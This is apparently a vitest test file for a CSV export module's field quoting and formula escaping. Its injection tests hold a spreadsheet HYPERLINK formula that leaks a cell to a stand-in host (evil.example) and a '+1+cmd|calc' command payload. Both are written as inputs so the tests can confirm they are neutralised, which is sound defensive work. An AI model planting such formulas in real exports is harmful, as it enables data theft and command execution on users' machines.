import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvRow, DECISION_CSV_HEADER } from '../../../src/main/core/export/decisions-csv';

/** An independent RFC 4180 reader, to check that what is written reads back as it was. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('CSV quoting', () => {
  it('quotes exactly the fields that need it', () => {
    expect(csvField('per:title')).toBe('per:title');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "no"')).toBe('"say ""no"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField('padded\t')).toBe('"padded\t"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(0.125)).toBe('0.125');
    expect(csvField('é, ü')).toBe('"é, ü"');
  });

  it('ends records with CRLF and writes the documented header', () => {
    expect(csvRow(['a', null, 'b"c'])).toBe('a,,"b""c"\r\n');
    expect(csvRow(DECISION_CSV_HEADER)).toBe(
      'id,split,source,action,applied,old_label,new_label,annotator,time,note,run,scores_run,score_is,score_es,score_esp,score_cl,score_knn\r\n',
    );
  });

  it('reads back as written for any text, formulas read back as text (property)', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom('"', ',', '\r\n', '\n', ' ', '""', 'a"b,c\nd', '=1+1', '+1', '-x', '@SUM(A1)', '\tx', '\rx'));
    const asText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(rows.map((r) => csvRow(r)).join(''))).toEqual(rows.map((r) => r.map(asText)));
      }),
      { numRuns: 500 },
    );
  });
});

describe('CSV injection (OWASP)', () => {
  it('turns every cell that a spreadsheet would evaluate into text with a leading apostrophe', () => {
    const link = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")';
    expect(csvField(link)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click me"")"`);
    expect(parseCsv(csvRow([link]))).toEqual([[`'${link}`]]);
    expect(csvField('+1+cmd|calc')).toBe("'+1+cmd|calc");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves numbers and harmless text alone', () => {
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(12)).toBe('12');
    expect(csvField('per:title')).toBe('per:title');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField("it's")).toBe("it's");
  });
});
